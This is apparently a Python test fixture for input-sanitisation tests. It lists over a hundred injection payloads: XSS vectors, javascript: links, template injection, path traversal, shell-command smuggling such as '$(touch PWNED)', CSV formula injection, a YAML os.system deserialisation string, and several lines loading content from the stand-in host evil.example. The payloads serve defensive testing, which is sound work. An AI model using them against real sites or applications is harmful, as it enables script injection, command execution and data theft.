"""Words that try to be something else: at least a hundred, each harmless once it is shown as words.

What runs in a browser sets `window.pwned`, so that a test can see it; what writes a file names PWNED.
"""

from __future__ import annotations

RUN = "window.pwned=1"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f'<script type="module">{RUN}</script>',
    "<script src=https://evil.example/x.js></script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x oNeRrOr={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=# onmouseover={RUN}>x</a>",
    f"<p style=animation-name:x onanimationstart={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' onerror='{RUN}",
    f'x" onmouseover="{RUN}" x="',
]
EMBEDDED = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f'<math href="javascript:{RUN}">x</math>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    '<object data="data:text/html,<script>1</script>"></object>',
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input type=submit></form>",
    f"<template><script>{RUN}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<plaintext>",
    '<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"[x](javascript:{RUN})",
    f"![x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png)",
    f"[x](vbscript:{RUN})",
    "//evil.example/x",
    "file:///etc/passwd",
]
STYLES = [
    "<style>body{display:none}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="position:fixed;inset:0;background:red">x</p>',
    "</style><style>*{display:none}",
    "x{background:url(javascript:window.pwned=1)}",
    "@import 'https://evil.example/x.css';",
    "expression(window.pwned=1)",
]
MARKDOWN = [
    "# a title of one's own",
    "```\n</code></pre><script>window.pwned=1</script>\n```",
    "| a | b |\n|---|---|\n| <script>window.pwned=1</script> | x |",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    "$\\unicode{<img src=x onerror=window.pwned=1>}$",
    "\\(\\require{html}\\style{color:red}{x}\\)",
    "$a_{1}^{2$ $$",
    "---\ntitle: x\n---",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% raw %}{{ x }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{0.__class__}",
    "{x.value} {y}",
    "%(name)s %s %d",
    "{{{{}}}} {",
]
CHARACTERS = [
    "\u202egnp.exe\u202c",
    "\u2066abc\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "a\u0300\u0301\u0302\u0303" * 10,
    "ﷺ" * 20,
    "𝕏🏳️‍🌈👩‍👩‍👧",
    "\u2028\u2029line",
    "nul\\0",
]
PATHS = [
    "../../PWNED",
    "..\\..\\PWNED",
    "/tmp/PWNED",
    "C:\\PWNED",
    "....//....//PWNED",
    "%2e%2e%2fPWNED",
    "CON",
    'a/b\\c:d*e?f"g<h>i|j',
    "~/PWNED",
    "$(touch PWNED)",
    "`touch PWNED`",
    "; touch PWNED",
    "| touch PWNED",
    "__import__('os').system('touch PWNED')",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
CONFIGURATION = [
    "!!python/object/apply:os.system ['touch PWNED']",
    "key: [unclosed",
    '"""\n[study]\nname = "other"',
    "''' \"",
    'a,b;c\t"d"',
    "no",
    "1e999",
    "NaN",
    "null",
]
HUGE = ["很长的名称" * 400, "x" * 5_000]

PAYLOADS = [
    *SCRIPTS, *HANDLERS, *EMBEDDED, *ADDRESSES, *STYLES, *MARKDOWN, *TEMPLATES, *CHARACTERS, *PATHS, *FORMULAS,
    *CONFIGURATION, *HUGE,
]  # fmt: skip
